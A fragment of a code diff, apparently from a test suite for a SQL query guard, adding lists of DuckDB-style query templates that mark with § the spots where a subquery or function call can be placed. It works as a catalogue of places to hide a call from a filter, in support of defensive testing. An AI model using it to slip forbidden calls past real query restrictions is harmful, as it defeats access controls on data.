+  `(SELECT 1) EXCEPT (SELECT 1 FROM §)`,
+  `VALUES (1), ((SELECT 1 FROM §))`,
+  `PIVOT data ON units IN (1) USING max((SELECT 1 FROM §))`,
+  `UNPIVOT (FROM §) ON a`,
+  `SELECT COLUMNS(c -> EXISTS (FROM §)) FROM data`,
+];
+
+/** Places where a call can stand. */
+const CALL_PLACES: readonly string[] = [
+  `SELECT lower(upper(§))::VARCHAR`,
+  `SELECT -§, NOT §`,
+  `SELECT CASE WHEN true THEN 1 ELSE § END`,
+  `SELECT [§], {'a': §}, MAP {'k': §}, (§, 1)`,
+  `SELECT [1, 2][§], 'abc'[§:]`,
+  `SELECT [x FOR x IN [1] IF § IS NULL]`,
+  `SELECT list_reduce([1], LAMBDA a, b : §)`,
+  `SELECT TRY_CAST(§ AS DOUBLE)`,
+  `SELECT § IS NULL, § IN (1), § BETWEEN 1 AND 2`,
+  `SELECT § COLLATE NOCASE`,
+  `SELECT INTERVAL (§) DAY`,
+  `SELECT COLUMNS(c -> c <> §) FROM data`,
+  `SELECT * REPLACE (§ AS units) FROM data`,
+  `SELECT max(units ORDER BY §) FILTER (WHERE § = '') FROM data`,
+  `SELECT max(units) OVER (PARTITION BY § ORDER BY §) FROM data`,
+  `SELECT max(units) OVER (ORDER BY units RANGE BETWEEN § PRECEDING AND CURRENT ROW) FROM data`,
+  `SELECT lead(units, 1, §) OVER () FROM data`,
+  `SELECT DISTINCT ON (§) * FROM data`,
+  `SELECT * FROM data JOIN data b ON § = ''`,
+  `SELECT units FROM data GROUP BY GROUPING SETS ((units), (§))`,
+  `SELECT units FROM data GROUP BY ALL HAVING § = ''`,
+  `SELECT * FROM data QUALIFY § = ''`,
+  `SELECT * FROM data ORDER BY § LIMIT §`,
+  `VALUES (1), (§)`,
+  `FROM unnest([§])`,
+  `FROM json_each(§)`,
+  `PIVOT data ON units IN (1) USING max(§)`,
+  `WITH x AS (SELECT §) SELECT 1`,
+  `SUMMARIZE SELECT §`,
 ];
